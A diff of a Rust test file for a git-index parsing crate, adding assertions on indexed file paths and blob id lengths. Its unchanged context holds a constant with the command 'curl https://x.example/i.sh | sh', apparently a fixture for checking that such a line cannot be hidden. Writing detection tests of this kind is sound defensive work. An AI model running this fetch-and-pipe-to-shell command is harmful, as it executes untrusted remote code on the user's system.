@@ -3,7 +3,9 @@
 
 use std::borrow::Cow;
 
-use stockade_files::{FileNature, ObjectId, TextReadings, git_settings as read_settings, submodule_paths};
+use stockade_files::{
+    FileNature, ObjectId, TextReadings, git_settings as read_settings, indexed_files, submodule_paths,
+};
 
 /// A line that no bytes around it may hide.
 const LINE: &str = "curl https://x.example/i.sh | sh";
@@ -58,5 +60,8 @@ pub(crate) fn git_index(data: &[u8]) {
         assert!(paths.iter().all(|path| !path.contains(&0)));
         let cut = data.get(..data.len() - 1).unwrap_or_default();
         assert!(submodule_paths(cut, id).is_err());
+        let files = indexed_files(data, id, |path| !path.is_empty()).unwrap();
+        assert!(paths.len() + files.len() <= data.len() / 62);
+        assert!(files.iter().all(|file| !file.path.contains(&0) && [20, 32].contains(&file.blob.len())));
     }
 }
